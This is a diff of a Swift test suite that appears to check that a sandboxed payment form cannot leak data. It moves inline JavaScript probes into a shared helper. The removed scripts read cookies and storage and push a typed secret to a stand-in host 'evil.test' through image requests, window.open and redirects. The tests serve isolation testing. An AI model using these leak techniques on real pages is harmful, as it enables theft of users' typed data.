@@ -35,19 +35,7 @@ import WindowTesting
         },
         .form("the same techniques reach the form's own service, so the test is valid") { stage in
             try await stage.open(
-                """
-                const own = (name) => "/own/" + name;
-                fetch(own("fetch")).catch(() => {});
-                new Image().src = own("image");
-                navigator.sendBeacon(own("beacon"), "x");
-                new EventSource(own("events"));
-                const style = document.createElement("style");
-                style.textContent = "body { background: url(" + own("style") + ") }";
-                document.head.append(style);
-                fetch("https://staging.pay.walletconnect.com/own/service", { mode: "no-cors" }).catch(() => {});
-                document.body.insertAdjacentHTML("beforeend", "<iframe src=/own/frame></iframe>");
-                setTimeout(() => done("said"), 500);
-                """)
+                PageCode.call("collection-leak", "useOwnHost"))
             try expectEqual(try await stage.said(), "said")
             let paths = Set(stage.server.visits.map(\.path))
             for way in ["fetch", "image", "beacon", "events", "style", "service", "frame"] {
@@ -72,18 +60,7 @@ import WindowTesting
             try expectEqual(stage.strays, [])
         },
         .form("a form finds no data of another, and no trace of where it was opened") { stage in
-            let script = """
-                const old = [document.cookie, localStorage.x ?? "", sessionStorage.x ?? "", document.referrer, history.length];
-                document.cookie = "x=1; max-age=9999; secure";
-                localStorage.x = sessionStorage.x = "1";
-                (async () => {
-                    const names = await (indexedDB.databases?.() ?? []);
-                    const cached = await (window.caches?.keys() ?? []);
-                    indexedDB.open("x");
-                    try { await (await caches.open("x")).put("/x", new Response("x")); } catch {}
-                    done([...old, names.length, cached.length]);
-                })();
-                """
+            let script = PageCode.call("collection-leak", "lookForTraces")
             for _ in 0..<2 {
                 try await stage.open(
                     script, headers: ["Set-Cookie": "y=1; Max-Age=9999", "Cache-Control": "max-age=9999"])
@@ -99,27 +76,8 @@ import WindowTesting
             let secret = "typed-\(UUID().uuidString)"
             let start = Date()
             try await stage.open(
-                """
-                const typed = "\(secret)";
-                document.querySelector("input").value = typed;
-                document.cookie = "typed=" + typed;
-                localStorage.typed = typed;
-                history.pushState({ typed }, "", "?typed=" + typed);
-                document.title = typed;
-                console.log(typed);
-                navigator.clipboard?.writeText(typed).catch(() => {});
-                try { new Worker("data:text/javascript," + typed); } catch {}
-                new Image().src = "https://evil.test/" + typed;
-                window.open("https://evil.test/" + typed);
-                location.href = "https://evil.test/?" + typed;
-                setTimeout(() => { location.href = "wc:" + typed; }, 50);
-                setTimeout(() => { fetch("/keep", { method: "POST", body: typed }); }, 100);
-                setTimeout(() => {
-                    complete({ type: "IC_SECRET", typed });
-                    complete({ type: "IC_ERROR", error: typed });
-                    done("said");
-                }, 300);
-                """, body: "<input autocomplete=on name=fullName>")
+                PageCode.call("collection-leak", "spreadText", ["typed": secret]),
+                body: "<input autocomplete=on name=fullName>")
             _ = try await stage.said()
             try await stage.wait("the form ends") { !stage.ends.isEmpty }
             try expect(
